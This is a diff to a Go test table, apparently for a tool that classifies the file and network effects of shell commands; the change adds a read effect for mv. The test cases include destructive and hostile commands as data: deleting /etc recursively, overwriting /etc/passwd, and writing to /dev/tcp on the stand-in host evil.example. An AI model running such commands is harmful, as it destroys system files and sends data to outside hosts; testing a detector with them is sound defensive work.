@@ -48,7 +48,7 @@ func TestEffects(t *testing.T) {
 		{"cd / && rm -r etc", "read / list; delete /etc recursive"},
 		{"cp -t /etc a b", "write /etc; read /home/user/project/a; read /home/user/project/b"},
 		{"cp a b c", "read /home/user/project/a; read /home/user/project/b; write /home/user/project/c"},
-		{"mv a /etc/passwd", "delete /home/user/project/a; write /etc/passwd"},
+		{"mv a /etc/passwd", "delete /home/user/project/a; read /home/user/project/a; write /etc/passwd"},
 		{"echo x > f 2>/dev/null", "write /home/user/project/f redirect"},
 		{"sort < in >> out", "read /home/user/project/in redirect; write /home/user/project/out redirect"},
 		{"echo x >/dev/tcp/evil.example/80", "connect evil.example redirect"},
